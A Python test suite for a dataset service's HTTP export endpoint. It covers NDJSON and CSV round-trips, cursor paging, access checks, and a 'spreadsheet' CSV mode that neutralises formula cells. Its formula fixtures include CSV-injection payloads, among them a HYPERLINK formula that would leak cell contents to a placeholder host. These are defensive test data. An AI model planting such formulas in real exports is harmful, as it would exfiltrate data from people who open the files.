"""Export over HTTP: streamed NDJSON and CSV that import back unchanged."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import httpx
import pytest

from entrepot import jsonbody
from entrepot.records import export
from tests.factories import app_key, make_dataset, make_org
from tests.integration.bulk_helpers import NDJSON, all_records, ndjson, post_import

RICH_SCHEMA: dict[str, Any] = {
    "type": "object",
    "properties": {
        "code": {"type": "string"},
        "label": {"type": "string"},
        "count": {"type": "integer"},
        "ratio": {"type": "number"},
        "flag": {"type": "boolean"},
        "note": {"type": ["string", "null"]},
        "maybe": {"type": ["string", "integer", "boolean", "null"]},
        "anything": {},
        "meta": {"type": "object"},
        "list": {"type": "array"},
    },
    "required": ["code"],
}

RECORDS: list[dict[str, Any]] = [
    {
        "code": "a",
        "label": "Zoë, 東京 🚀",
        "count": 12345678901234567890,
        "ratio": 0.1,
        "flag": True,
        "note": None,
        "maybe": "12",
        "anything": {"deep": [1, {"x": None}]},
        "meta": {"k": "v", "nested": {"n": [1.5, "two", False]}},
        "list": [1, "a,b", "line\nbreak"],
    },
    {"code": "b", "label": "", "note": "null", "maybe": "true", "anything": "[not json"},
    {"code": "c", "label": '"quoted"', "maybe": 7, "anything": "12", "ratio": 1.5e-7},
    {"code": "d", "label": 'multi\r\nline, with "quotes"', "maybe": False, "count": -3},
    {"code": "e", "note": "", "anything": None, "meta": {}, "list": [], "ratio": 2.0},
    {"code": "f", "label": "  spaces kept  ", "maybe": None, "anything": "plain"},
]


async def rich_dataset(client: httpx.AsyncClient, **overrides: Any) -> str:
    name: str = (await make_dataset(client, schema=RICH_SCHEMA, primary_key="code", **overrides))[
        "name"
    ]
    return name


async def exported(client: httpx.AsyncClient, ds: str, fmt: str) -> httpx.Response:
    response = await client.get(f"/v1/datasets/{ds}/export", params={"format": fmt})
    assert response.status_code == 200, response.text
    return response


def canonical(value: Any) -> str:
    """Exact JSON text, key order aside: 1 and 1.0 differ, big integers stay whole."""
    return json.dumps(value, sort_keys=True, ensure_ascii=False)


def data_of(records: dict[str, dict[str, Any]]) -> dict[str, str]:
    return {key: canonical(value["data"]) for key, value in records.items()}


@pytest.mark.parametrize(("fmt", "media_type"), [("ndjson", NDJSON), ("csv", "text/csv")])
async def test_export_imports_back_unchanged(
    client: httpx.AsyncClient, fmt: str, media_type: str
) -> None:
    source = await rich_dataset(client)
    loaded = await post_import(client, source, ndjson(*RECORDS))
    assert loaded.json()["inserted"] == len(RECORDS), loaded.text
    response = await exported(client, source, fmt)
    assert response.headers["content-type"].startswith(media_type)
    assert response.headers["content-disposition"] == f'attachment; filename="{source}.{fmt}"'

    copy = await rich_dataset(client)
    reloaded = await post_import(client, copy, response.content, media_type)
    assert reloaded.json() == {"inserted": len(RECORDS), "updated": 0, "failed": 0, "errors": []}
    original = data_of(await all_records(client, source))
    assert data_of(await all_records(client, copy)) == original
    assert original == {r["code"]: canonical(r) for r in RECORDS}


async def test_ndjson_export_is_bare_data_in_id_order(client: httpx.AsyncClient) -> None:
    ds = await rich_dataset(client)
    await post_import(client, ds, ndjson(*reversed(RECORDS)))
    lines = [x for x in (await exported(client, ds, "ndjson")).text.split("\n") if x]
    assert [jsonbody.loads(line)["code"] for line in lines] == ["a", "b", "c", "d", "e", "f"]
    assert jsonbody.loads(lines[0])["count"] == 12345678901234567890


async def test_csv_export_has_a_header_of_schema_properties(client: httpx.AsyncClient) -> None:
    ds = await rich_dataset(client)
    await post_import(client, ds, ndjson(RECORDS[4]))
    text = (await exported(client, ds, "csv")).text
    header, row = text.split("\r\n")[:2]
    dataset = (await client.get(f"/v1/datasets/{ds}")).json()
    assert header.split(",") == list(dataset["schema"]["properties"])
    cells = dict(zip(header.split(","), row.split(","), strict=True))
    assert cells == {
        "code": "e",
        "label": "",
        "count": "",
        "ratio": "2.0",
        "flag": "",
        "note": '""""""',
        "maybe": "",
        "anything": "null",
        "meta": "{}",
        "list": "[]",
    }


async def test_export_pages_through_the_cursor(
    client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "FETCH_ROWS", 3)
    ds = await rich_dataset(client)
    codes = [f"k{i:02}" for i in range(10)]
    await post_import(client, ds, ndjson(*({"code": c} for c in codes)))
    body = (await exported(client, ds, "ndjson")).text
    assert body.endswith("\n")
    assert [json.loads(line) for line in body.splitlines()] == [{"code": c} for c in codes]


async def test_empty_dataset_exports_nothing_or_a_header(client: httpx.AsyncClient) -> None:
    ds = await rich_dataset(client)
    assert (await exported(client, ds, "ndjson")).content == b""
    assert (await exported(client, ds, "csv")).text.count("\r\n") == 1


@pytest.mark.parametrize(
    "query",
    [
        "format=xml",
        "format=csv&format=ndjson",
        "limit=1",
        "format=csv&csv=excel",
        "format=csv&csv=spreadsheet&csv=exact",
    ],
)
async def test_bad_export_parameters_are_400(client: httpx.AsyncClient, query: str) -> None:
    ds = await rich_dataset(client)
    response = await client.get(f"/v1/datasets/{ds}/export?{query}")
    assert response.status_code == 400
    assert response.headers["content-type"] == "application/problem+json"


async def test_export_needs_access(
    client: httpx.AsyncClient, anon: httpx.AsyncClient, database_url: str
) -> None:
    assert (await client.get("/v1/datasets/no-such-ds/export")).status_code == 404
    public = await rich_dataset(client, visibility="public")
    restricted = await rich_dataset(client, visibility="restricted")
    await post_import(client, restricted, ndjson(RECORDS[0]))
    assert (await anon.get(f"/v1/datasets/{public}/export")).status_code == 401

    outsider = await app_key(client, (await make_org(client))["name"], ["records:read"])
    headers = {"Authorization": f"Bearer {outsider}"}
    assert (await client.get(f"/v1/datasets/{public}/export", headers=headers)).status_code == 200
    hidden = await client.get(f"/v1/datasets/{restricted}/export", headers=headers)
    assert hidden.status_code == 404
    assert "Zoë" not in hidden.text

    no_scope = await app_key(client, (await make_org(client))["name"], ["datasets:read"])
    denied = await client.get(
        f"/v1/datasets/{public}/export", headers={"Authorization": f"Bearer {no_scope}"}
    )
    assert denied.status_code == 403


# Property names whose catalog order (PostgreSQL's jsonb key order) is the order written.
FORMULA_SCHEMA: dict[str, Any] = {
    "type": "object",
    "properties": {
        "code": {"type": "string"},
        "label": {"type": "string"},
        "amount": {"type": "integer"},
        "anything": {},
    },
    "required": ["code"],
}
FORMULA_RECORDS: list[dict[str, Any]] = [
    {"code": "a", "label": "=1+2", "amount": -5, "anything": "-5"},
    {"code": "b", "label": "+5", "anything": -7},
    {"code": "c", "label": "-x", "anything": '=HYPERLINK("https://x.example/?"&A1)'},
    {"code": "d", "label": "@SUM(A1:A2)", "anything": "\tx"},
    {"code": "e", "label": "\r=1", "anything": {"f": "=1"}},
    {"code": "f", "label": "a=b", "amount": 0, "anything": True},
]


async def formula_dataset(client: httpx.AsyncClient) -> str:
    ds: str = (await make_dataset(client, schema=FORMULA_SCHEMA, primary_key="code"))["name"]
    loaded = await post_import(client, ds, ndjson(*FORMULA_RECORDS))
    assert loaded.json()["inserted"] == len(FORMULA_RECORDS), loaded.text
    return ds


async def test_spreadsheet_csv_neutralises_formula_cells(client: httpx.AsyncClient) -> None:
    ds = await formula_dataset(client)
    response = await client.get(
        f"/v1/datasets/{ds}/export", params={"format": "csv", "csv": "spreadsheet"}
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == f'attachment; filename="{ds}.csv"'
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert rows == [
        ["code", "label", "amount", "anything"],
        ["a", "'=1+2", "-5", "'-5"],
        ["b", "'+5", "", "-7"],
        ["c", "'-x", "", '\'=HYPERLINK("https://x.example/?"&A1)'],
        ["d", "'@SUM(A1:A2)", "", "'\tx"],
        ["e", "'\r=1", "", '{"f":"=1"}'],
        ["f", "a=b", "0", "true"],
    ]


async def test_default_csv_export_keeps_formula_text_exact(client: httpx.AsyncClient) -> None:
    ds = await formula_dataset(client)
    default = (await exported(client, ds, "csv")).content
    explicit = await client.get(
        f"/v1/datasets/{ds}/export", params={"format": "csv", "csv": "exact"}
    )
    assert explicit.status_code == 200, explicit.text
    assert explicit.content == default
    assert default == (
        b"code,label,amount,anything\r\n"
        b'a,=1+2,-5,"""-5"""\r\n'
        b"b,+5,,-7\r\n"
        b'c,-x,,"=HYPERLINK(""https://x.example/?""&A1)"\r\n'
        b"d,@SUM(A1:A2),,\tx\r\n"
        b'e,"\r=1",,"{""f"":""=1""}"\r\n'
        b"f,a=b,0,true\r\n"
    )
    copy = (await make_dataset(client, schema=FORMULA_SCHEMA, primary_key="code"))["name"]
    reloaded = await post_import(client, copy, default, "text/csv")
    assert reloaded.json()["inserted"] == len(FORMULA_RECORDS), reloaded.text
    assert data_of(await all_records(client, copy)) == data_of(await all_records(client, ds))


@pytest.mark.parametrize("query", ["csv=spreadsheet", "format=ndjson&csv=spreadsheet"])
async def test_spreadsheet_style_needs_csv(client: httpx.AsyncClient, query: str) -> None:
    ds = await rich_dataset(client)
    response = await client.get(f"/v1/datasets/{ds}/export?{query}")
    assert response.status_code == 400, response.text
    assert "format=csv" in response.json()["detail"]
    assert (await client.get(f"/v1/datasets/{ds}/export?csv=exact")).status_code == 200


async def test_openapi_describes_the_csv_style(client: httpx.AsyncClient) -> None:
    spec = (await client.get("/openapi.json")).json()
    parameters = spec["paths"]["/v1/datasets/{ds}/export"]["get"]["parameters"]
    (style,) = [p for p in parameters if p["name"] == "csv"]
    assert style["in"] == "query"
    assert style["schema"] == {
        "type": "string",
        "enum": ["exact", "spreadsheet"],
        "default": "exact",
    }
    assert "formula" in style["description"]
